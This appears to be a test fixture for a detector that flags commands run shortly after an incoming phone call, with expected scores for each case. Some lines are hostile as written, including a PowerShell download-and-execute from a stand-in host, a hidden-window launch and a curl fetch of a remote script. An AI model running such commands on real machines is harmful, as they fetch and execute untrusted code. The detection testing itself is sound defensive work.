# What is dictated on the phone is short: no "https://", and "-w h" for a hidden window.
person ana
person ben
person eva
person ole
person pia
10:02 ana call-in +442079460031 14m
10:10 ana run powershell.exe cmd="powershell -c iex(irm help.example/a)"
10:02 ben call-in +442079460032 14m
10:10 ben run powershell.exe cmd="powershell -w h -c start notepad"
10:02 eva call-in +442079460033 14m
10:10 eva run curl.exe cmd="curl 198.51.100.7:8080/a.cmd -o a.cmd"
10:02 ole call-in +442079460034 14m
10:10 ole run curl.exe cmd="curl -o a.exe --data @in.json 127.0.0.1:8080/x"
10:02 pia call-in +442079460035 14m
10:10 pia run certutil.exe cmd="certutil -hashfile C:/Work/setup.exe/x SHA256"
expect: ana points.F7=25 says="fetch by command"
expect: ben points.F7=25 says="hidden shell"
expect: eva points.F7=25
expect: ole none
expect: pia none
